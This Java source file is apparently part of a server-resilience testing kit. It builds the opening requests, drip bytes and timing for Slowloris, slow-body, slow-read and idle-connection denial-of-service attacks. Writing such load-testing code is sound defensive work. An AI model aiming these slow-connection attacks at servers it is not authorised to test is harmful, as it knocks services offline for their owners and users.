package io.sluice.kit.attack;

import io.sluice.kit.Bytes;
import java.time.Duration;

/**
 * What one attacking connection does.
 *
 * @param opening sent at once
 * @param drip sent every interval; 0: nothing more is sent
 * @param interval between two drips, or two reads
 * @param readPerInterval bytes; 0: reads whatever comes at once
 * @param receiveBuffer SO_RCVBUF, 0: the system's
 * @param sinceLastByte time to close counts from the last byte received, not from the connect
 */
record Script(
        byte[] opening, byte drip, Duration interval, int readPerInterval, int receiveBuffer, boolean sinceLastByte) {
    private static final byte NO_DRIP = 0;
    private static final int BODY = 1_000_000;
    private static final int SMALL_WINDOW = 1024;
    private static final int SLOW_READ = 10;

    static Script of(AttackKind kind, String host, String target, Duration interval) {
        String fields = " HTTP/1.1\r\nHost: " + host + "\r\n";
        byte[] get = Bytes.raw("GET " + target + fields + "\r\n");
        return switch (kind) {
            case SLOWLORIS ->
                new Script(Bytes.raw("GET " + target + fields + "X-Slow: "), (byte) 'a', interval, 0, 0, false);
            case SLOW_BODY ->
                new Script(
                        Bytes.raw("POST " + target + fields + "Content-Length: " + BODY + "\r\n\r\n"),
                        (byte) 'b',
                        interval,
                        0,
                        0,
                        false);
            case SLOW_READ -> new Script(get, NO_DRIP, interval, SLOW_READ, SMALL_WINDOW, false);
            case IDLE -> new Script(get, NO_DRIP, interval, 0, 0, true);
            case FLOOD -> throw new IllegalArgumentException("a flood is a load, not a slow script");
        };
    }
}
